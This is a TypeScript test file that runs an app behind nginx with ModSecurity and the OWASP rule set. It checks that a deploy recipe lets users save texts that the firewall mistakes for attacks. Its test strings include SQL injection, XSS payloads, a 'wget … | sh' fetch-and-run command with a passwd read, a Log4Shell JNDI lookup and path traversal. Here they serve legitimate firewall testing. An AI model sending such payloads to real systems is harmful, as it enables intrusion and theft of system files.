// Rules: protocol/operations#client-address
import { spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test, vi } from "vitest";
import { freePort, startApp, type TestApp } from "#test/support/app.ts";
import type { CreatedSession } from "#shared/wire/sessions.ts";
import { act, addStory, ok, team, visitor } from "#test/support/client.ts";
import { watch } from "#test/support/socket.ts";

const RULE_SET = "/usr/share/modsecurity-crs/rules";
const recipe = new URL("../../deploy/proxies/modsecurity.conf", import.meta.url).pathname;

/** Texts that people write, and that a firewall takes for attacks. */
const texts = [
  "As a DBA I want `select * from users where 1=1 or 'a'='a' --` to be fast",
  "<script>alert(1)</script> shows up in the title <img src=x onerror=alert(1)>",
  "run `cat /etc/passwd; wget http://example.com/x.sh | sh`",
  "${jndi:ldap://example.com/a} in ../../../../etc/hosts",
];

/** Starts an app behind nginx with ModSecurity and the rule set, as Debian packages them. */
async function behindFirewall(rules: string): Promise<TestApp> {
  for (const path of [RULE_SET, "/etc/nginx/modsecurity.conf"])
    if (!existsSync(path))
      throw new Error(`${path} is missing: install libnginx-mod-http-modsecurity and modsecurity-crs.`);
  const port = await freePort();
  const app = await startApp({ env: { BASE_URL: `http://localhost:${port}` } });
  onTestFinished(() => app.stop());
  const folder = await mkdtemp(join(tmpdir(), "standpoint-firewall-"));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const firewall = [
    "SecRuleEngine On\nSecRequestBodyAccess On\nSecAuditEngine Off\nSecDebugLogLevel 0",
    `SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"`,
    "Include /etc/modsecurity/crs/crs-setup.conf",
    rules,
    `Include ${RULE_SET}/*.conf`,
  ];
  await writeFile(join(folder, "rules.conf"), firewall.join("\n"));
  const own = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"].map(
    (one) => `${one}_temp_path ${folder}/${one};`,
  );
  await writeFile(
    join(folder, "nginx.conf"),
    `daemon off; pid ${folder}/pid; load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so; events {}
http {
  access_log off; ${own.join(" ")}
  map $http_upgrade $connection_upgrade { default upgrade; "" ""; }
  server {
    listen 127.0.0.1:${port};
    modsecurity on; modsecurity_rules_file ${folder}/rules.conf;
    location / {
      proxy_pass ${app.baseUrl.replace("localhost", "127.0.0.1")};
      proxy_http_version 1.1;
      proxy_set_header Host $http_host;
      proxy_set_header Upgrade $http_upgrade;
      proxy_set_header Connection $connection_upgrade;
    }
  }
}
`,
  );
  const nginx = spawn("/usr/sbin/nginx", ["-c", join(folder, "nginx.conf"), "-e", "stderr"]);
  let output = "";
  nginx.stderr.on("data", (chunk: Buffer) => (output += chunk.toString()));
  onTestFinished(async () => {
    nginx.kill("SIGTERM");
    await once(nginx, "exit");
  });
  const baseUrl = `http://localhost:${port}`;
  await vi.waitFor(() => fetch(`${baseUrl}/healthz`).catch(() => Promise.reject(new Error(output))), {
    timeout: 60_000,
  });
  return { ...app, baseUrl, wsUrl: `ws://localhost:${port}` };
}

test("without the recipe, a firewall refuses what a team does", async () => {
  const app = await behindFirewall("");
  const { status } = await visitor(app).send("PATCH", "/api/me/settings", { body: {} });
  expect(status).toBe(403);
});

test("with the recipe, a team plays a round with any texts", async () => {
  const app = await behindFirewall(`Include ${recipe}`);
  const t = await team(app, ["Ana", "Ben"]);
  const [ana, ben] = t.people;
  const viewer = await watch(ben!, t.session.id);
  for (const text of texts) {
    const storyId = await addStory(ana!, t.room, text);
    await act(ana!, t.room, "PATCH", "story", { storyId, title: text, notes: text });
    await act(ana!, t.room, "POST", "select", { storyId });
    for (const who of t.people) await act(who, t.room, "POST", "vote", { storyId, value: "5" });
    await act(ana!, t.room, "POST", "reveal");
    await viewer.until((frame) => JSON.stringify(frame).includes(JSON.stringify(text)));
    await ok(ana!, "GET", `/api/find?q=${encodeURIComponent(text.slice(0, 60))}`);
  }
  const standup = { kind: "standup", title: "Daily", config: { mode: "async" } };
  const { id } = await ok<CreatedSession>(ana!, "POST", `${t.spacePath}/sessions`, standup);
  const [yesterday, today, blockers] = texts;
  await act(ana!, `/api/sessions/${id}`, "PUT", "standup", { yesterday, today, blockers });
  await ok(ben!, "DELETE", "/api/me");
});
